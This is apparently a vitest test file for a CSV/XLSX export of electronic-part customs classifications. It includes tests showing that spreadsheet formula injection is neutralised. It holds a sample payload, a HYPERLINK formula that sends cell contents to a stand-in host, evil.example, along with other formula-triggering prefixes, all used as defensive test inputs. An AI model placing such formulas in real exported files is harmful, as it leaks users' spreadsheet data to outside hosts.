import type { Classification, TaskItem } from '@nexa/contracts';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { buildCsv, buildXlsx, EXPORT_COLUMNS, toExportRow } from '../src/index';

const classification: Classification = {
  id: '11111111-1111-4111-8111-111111111111',
  partnumber: 'LM358DR',
  ncm: '85423990',
  description: 'Circuito integrado amplificador operacional; "duplo"',
  manufacturer: 'Texas Instruments',
  country: 'MY',
  confidence: 0.8765,
  alternatives: [
    { ncm: '85423190', description: 'Processadores', score: 0.41 },
    { ncm: '85423300', description: 'Amplificadores', score: 0.2 },
  ],
  justification: null,
  engine: 'test',
  status: 'ACTIVE',
  taskId: null,
  createdAt: '2024-01-01T00:00:00.000Z',
};

const item = (overrides: Partial<TaskItem>): TaskItem => ({
  id: '22222222-2222-4222-8222-222222222222',
  seq: 1,
  partnumber: 'LM358DR',
  description: 'AMP OP DUPLO SOIC8',
  manufacturer: 'TI',
  supplier: null,
  quantity: 10,
  status: 'done',
  error: null,
  classification,
  ...overrides,
});

const rows = [
  toExportRow(item({})),
  toExportRow(item({ seq: 2, partnumber: 'FAIL-1', description: null, manufacturer: null, status: 'failed', error: 'boom', classification: null })),
  toExportRow(item({ seq: 3, partnumber: 'WAIT-1', description: 'linha\ncom quebra', manufacturer: 'ACME', status: 'cancelled', classification: null })),
];

describe('export', () => {
  it('writes an XLSX that reads back cell by cell, with empty cells for missing fields', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await buildXlsx(rows)) as unknown as ExcelJS.Buffer);
    const sheet = workbook.worksheets[0]!;
    const values = (rowNumber: number) => EXPORT_COLUMNS.map((_, index) => sheet.getRow(rowNumber).getCell(index + 1).value ?? null);
    expect(values(1)).toEqual(['Seq', 'Partnumber', 'Descrição ERP', 'Descrição DI', 'NCM', 'Fabricante', 'Endereço', 'País', 'Confiança', 'Status', 'Alternativas', 'Quantidade', 'Revisão', 'Motivo']);
    expect(values(2)).toEqual([
      1,
      'LM358DR',
      'AMP OP DUPLO SOIC8',
      'Circuito integrado amplificador operacional; "duplo"',
      '8542.39.90',
      'Texas Instruments',
      null,
      'MY',
      0.88,
      'done',
      '8542.31.90 (0.41); 8542.33.00 (0.20)',
      10,
      'ACTIVE',
      null,
    ]);
    expect(values(3)).toEqual([2, 'FAIL-1', null, null, null, null, null, null, null, 'failed', null, 10, null, 'boom']);
    expect(values(4)).toEqual([3, 'WAIT-1', 'linha\ncom quebra', null, null, 'ACME', null, null, null, 'cancelled', null, 10, null, null]);
    expect(sheet.rowCount).toBe(4);
  });

  it('writes a semicolon CSV with a BOM, quoting what needs quoting', () => {
    const csv = buildCsv(rows);
    expect(csv.startsWith('\uFEFFSeq;Partnumber;Descrição ERP;Descrição DI;NCM;Fabricante;Endereço;País;Confiança;Status;Alternativas;Quantidade;Revisão;Motivo\r\n')).toBe(true);
    const lines = csv.slice(1).split('\r\n');
    expect(lines[1]).toBe('1;LM358DR;AMP OP DUPLO SOIC8;"Circuito integrado amplificador operacional; ""duplo""";8542.39.90;Texas Instruments;;MY;0.88;done;"8542.31.90 (0.41); 8542.33.00 (0.20)";10;ACTIVE;');
    expect(lines[2]).toBe('2;FAIL-1;;;;;;;;failed;;10;;boom');
    expect(lines[3]).toBe('3;WAIT-1;"linha\ncom quebra";;;ACME;;;;cancelled;;10;;');
    expect(lines[4]).toBe('');
  });

  it('puts an apostrophe before CSV text that a spreadsheet would run as a formula, not before numbers', () => {
    const risky = [
      toExportRow(item({ seq: 1, partnumber: '=HYPERLINK("http://evil.example/?q="&A1,"clique")', description: '+55 11 5555-0000', classification: { ...classification, description: '-Circuito integrado', manufacturer: '@SUM(1+1)' } })),
      toExportRow(item({ seq: 2, partnumber: '-LM317T', description: '\tTAB', manufacturer: '\rCR', classification: null })),
      toExportRow(item({ seq: 3, partnumber: 'BC547', description: 'Transistor NPN; 45 V = 100 mA', manufacturer: 'onsemi', classification: null })),
      { ...toExportRow(item({ seq: 4, partnumber: 'NEG-1', classification: null })), confidence: -1 },
    ];
    const lines = buildCsv(risky).slice(1).split('\r\n');
    expect(lines[1]).toBe(
      `1;"'=HYPERLINK(""http://evil.example/?q=""&A1,""clique"")";'+55 11 5555-0000;'-Circuito integrado;8542.39.90;'@SUM(1+1);;MY;0.88;done;"8542.31.90 (0.41); 8542.33.00 (0.20)";10;ACTIVE;`,
    );
    expect(lines[2]).toBe(`2;'-LM317T;'\tTAB;;;"'\rCR";;;;done;;10;;`);
    expect(lines[3]).toBe('3;BC547;"Transistor NPN; 45 V = 100 mA";;;onsemi;;;;done;;10;;');
    expect(lines[4]).toBe('4;NEG-1;AMP OP DUPLO SOIC8;;;TI;;;-1;done;;10;;');
  });

  it('writes formula-like text to the XLSX as text, not as a formula', async () => {
    const partnumber = '=HYPERLINK("http://evil.example/?q="&A1,"clique")';
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await buildXlsx([toExportRow(item({ partnumber, description: '+55 11', manufacturer: '@SUM(1+1)', classification: null }))])) as unknown as ExcelJS.Buffer);
    const row = workbook.worksheets[0]!.getRow(2);
    expect([2, 3, 6].map((column) => row.getCell(column).type)).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.String, ExcelJS.ValueType.String]);
    expect([2, 3, 6].map((column) => row.getCell(column).value)).toEqual([partnumber, '+55 11', '@SUM(1+1)']);
  });
});
